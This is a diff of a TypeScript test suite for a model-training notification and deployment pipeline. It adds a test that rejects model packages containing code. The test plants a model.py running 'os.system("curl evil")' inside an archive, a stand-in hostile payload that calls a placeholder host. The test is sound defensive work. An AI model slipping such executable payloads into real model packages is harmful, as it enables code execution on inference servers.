@@ -7,12 +7,14 @@ import { ErasureTombstones } from '../../../functions/erasure/erasure-tombstones
 import { SubjectErasedError } from '../../../functions/erasure/errors.js';
 import { FolderObjectVersions } from '../../../functions/erasure/object-versions.js';
 import { FolderObjectStore } from '../../../functions/platform/folder-object-store.js';
+import { createTarGz, readTarGz } from '../../../functions/platform/tar-archive.js';
 import { CallbackTokens } from '../../../functions/training/callback-tokens.js';
 import { sha256 } from '../../../functions/training/notification-checks.js';
 import type { TaskCallbacks } from '../../../functions/training/task-callbacks.js';
 import { handleTrainingNotification } from '../../../functions/training/training-notification.js';
 import { type LocalDynamo, startLocalDynamo } from '../../../local/runtime/local-dynamo.js';
 import { trainingStateTableDefinition } from '../../../local/runtime/table-definitions.js';
+import { buildModelPackage, tritonModelName } from '../../../local/stand-ins/model-package.js';
 
 const TABLE = 'training-state';
 const BUCKET = 'photo-bucket';
@@ -67,7 +69,7 @@ describe('training notifications that cannot be forged (issue 11, item 6)', () =
   let tombstones: ErasureTombstones;
   let callbacks: RecordingCallbacks;
   let clock: number;
-  const adapterBytes = new Uint8Array([0x1f, 0x8b, 8, 0]);
+  let adapterBytes: Uint8Array;
 
   const deps = () => ({
     tokens,
@@ -87,6 +89,15 @@ describe('training notifications that cannot be forged (issue 11, item 6)', () =
       },
       { store, bucket: BUCKET, modelsPrefix: 'models/', checks: { tokens, tombstones } },
     );
+
+  beforeAll(async () => {
+    adapterBytes = await buildModelPackage({
+      subjectId: 'ana',
+      modelVersion: VERSION,
+      metadata: { subjectId: 'ana', modelVersion: VERSION },
+      adapterFiles: { 'pytorch_lora_weights.safetensors': 'weights' },
+    });
+  });
 
   beforeEach(async () => {
     dynamo = await startLocalDynamo([trainingStateTableDefinition(TABLE)]);
@@ -210,6 +221,24 @@ describe('training notifications that cannot be forged (issue 11, item 6)', () =
     // Assess
     await expect(deployed).rejects.toThrow(UnexpectedTrainingResponseError);
     await expect(deployed).rejects.toThrow(/changed after training/);
+    expect(await store.list('models/')).toEqual([]);
+  });
+
+  it('refuses to deploy a package with code in it even when its genuine notification recorded its digest', async () => {
+    // Prepare
+    const model = tritonModelName('ana', VERSION);
+    const withCode = await createTarGz([
+      ...(await readTarGz(adapterBytes)),
+      { path: `${model}/1/model.py`, body: Buffer.from('import os; os.system("curl evil")') },
+    ]);
+    await store.put(ADAPTER, withCode, 'application/gzip');
+    await handleTrainingNotification(notification('Completed'), deps(), { topicArn: SUCCESS });
+    // Act
+    const deployed = deploy();
+    // Assess
+    expect((await tokens.peek(INFERENCE))?.adapterSha256).toBe(sha256(withCode));
+    await expect(deployed).rejects.toThrow(UnexpectedTrainingResponseError);
+    await expect(deployed).rejects.toThrow(`is not deployed: carries code: ${model}/1/model.py`);
     expect(await store.list('models/')).toEqual([]);
   });
 
